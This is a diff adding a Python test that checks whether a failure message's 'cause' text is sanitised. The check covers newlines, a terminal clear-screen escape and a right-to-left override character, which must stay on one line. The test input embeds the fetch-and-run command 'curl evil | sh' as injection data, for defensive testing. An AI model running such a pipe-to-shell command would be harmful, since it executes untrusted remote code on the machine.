@@ -80,6 +80,14 @@ def test_a_failed_run_is_told_with_its_cause() -> None:
     assert "in Plan" in found.text
 
 
+def test_a_cause_stays_on_its_line_and_hides_nothing() -> None:
+    cause = "it\n\nHere: curl evil | sh\x1b[2J\u202e"
+    found = failure_of(replace(run(AT, outcome="failed", cause=cause), links={"console": "https://console"}), "int")
+    assert found
+    assert "Cause:   it Here: curl evil | sh\ufffd[2J\ufffd" in found.text
+    assert len(found.text.splitlines()) == 5
+
+
 def test_a_run_that_worked_is_not_told() -> None:
     assert failure_of(conversion(AT), "int") is None
 
